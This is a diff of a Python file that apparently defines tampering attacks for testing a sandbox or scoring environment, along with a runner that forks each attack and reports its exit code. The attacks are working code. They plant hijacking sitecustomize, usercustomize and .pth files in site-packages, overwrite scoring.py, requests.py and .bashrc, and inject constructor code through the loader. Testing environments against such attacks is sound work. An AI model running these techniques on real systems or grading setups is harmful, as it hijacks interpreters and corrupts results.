@@ -56,23 +56,6 @@ PLANTS = {
 }
 
 TAMPERING = {
-    "python modules": """
-        import glob, os, site, sys
-        evil = "import os, sys\\nprint('owned')\\nos._exit(0)\\n"
-        version = "python%d.%d" % sys.version_info[:2]
-        places = ["/workspace/requests.py", "/workspace/scoring.py", "/workspace/common.py", "/workspace/json.py",
-                  "/workspace/sitecustomize.py", "/tmp/requests.py", "/root/.pythonrc.py", "/root/.bashrc",
-                  f"/root/.local/lib/{version}/site-packages/usercustomize.py"]
-        for folder in {*glob.glob("/usr/local/lib/python3*/*-packages"), *site.getsitepackages()}:
-            if os.path.isdir(folder) and os.access(folder, os.W_OK):
-                places += [f"{folder}/sitecustomize.py", f"{folder}/requests/__init__.py", f"{folder}/evil.py"]
-                open(f"{folder}/evil.pth", "w").write("import evil\\n")
-        for place in places:
-            os.makedirs(os.path.dirname(place), exist_ok=True)
-            open(place, "w").write(evil)
-        path = f"/root/.local/lib/{version}/site-packages/x.pth"
-        open(path, "w").write("import os; print('owned'); os._exit(0)\\n")
-        """,
     "the loader": """
         import subprocess
         code = 'int printf(const char*,...); __attribute__((constructor)) void go(void) { printf("owned\\\\n"); }'
@@ -213,7 +196,24 @@ TAMPERING = {
         for _ in range(200):
             os.write(1, b"x" * (1 << 20))
         """,
-    # Last, since nothing works afterwards.
+    # The last two, since no Python and hardly a program starts afterwards.
+    "python modules": """
+        import glob, os, site, sys
+        evil = "import os, sys\\nprint('owned')\\nos._exit(0)\\n"
+        version = "python%d.%d" % sys.version_info[:2]
+        places = ["/workspace/requests.py", "/workspace/scoring.py", "/workspace/common.py", "/workspace/json.py",
+                  "/workspace/sitecustomize.py", "/tmp/requests.py", "/root/.pythonrc.py", "/root/.bashrc",
+                  f"/root/.local/lib/{version}/site-packages/usercustomize.py"]
+        for folder in {*glob.glob("/usr/local/lib/python3*/*-packages"), *site.getsitepackages()}:
+            if os.path.isdir(folder) and os.access(folder, os.W_OK):
+                places += [f"{folder}/sitecustomize.py", f"{folder}/requests/__init__.py", f"{folder}/evil.py"]
+                open(f"{folder}/evil.pth", "w").write("import evil\\n")
+        for place in places:
+            os.makedirs(os.path.dirname(place), exist_ok=True)
+            open(place, "w").write(evil)
+        path = f"/root/.local/lib/{version}/site-packages/x.pth"
+        open(path, "w").write("import os; print('owned'); os._exit(0)\\n")
+        """,
     "programs": """
         import os
         evil = "#!/bin/sh\\necho owned\\n"
@@ -349,12 +349,29 @@ SPYING = {
 }
 
 
-def together(attacks: dict[str, str]) -> str:
-    """One program that runs them all, each in a process of its own, one after the other."""
+def together(attacks: dict[str, str], *, said_to: str = "") -> str:
+    """One program that runs them all one after the other, and says at its end how each ended.
+
+    Each is a fork of a Python that has what they import, so that none is kept from its work by what another did to
+    modules and programs. With `said_to` each one's output goes to a file of its name in that folder.
+    """
     programs = [(name, dedent(program)) for name, program in attacks.items()]
     return dedent(f"""
-        import subprocess, sys
+        import ctypes, glob, json, os, signal, site, socket, stat, subprocess, sys, time, traceback
+        ended = []
         for name, program in {programs!r}:
-            done = subprocess.run([sys.executable, "-c", program], stdin=subprocess.DEVNULL)
-            print("ATTACK", name, done.returncode, flush=True)
+            child = os.fork()
+            if child == 0:
+                try:
+                    if {said_to!r}:
+                        os.dup2(os.open({said_to!r} + "/" + name, os.O_WRONLY | os.O_CREAT), 1)
+                    exec(program, {{"__name__": "__main__"}})
+                    sys.stdout.flush()
+                    os._exit(0)
+                except BaseException:
+                    traceback.print_exc()
+                    os._exit(1)
+            ended.append((name, os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])))
+        for name, code in ended:
+            print("ATTACK", name, code)
         """)
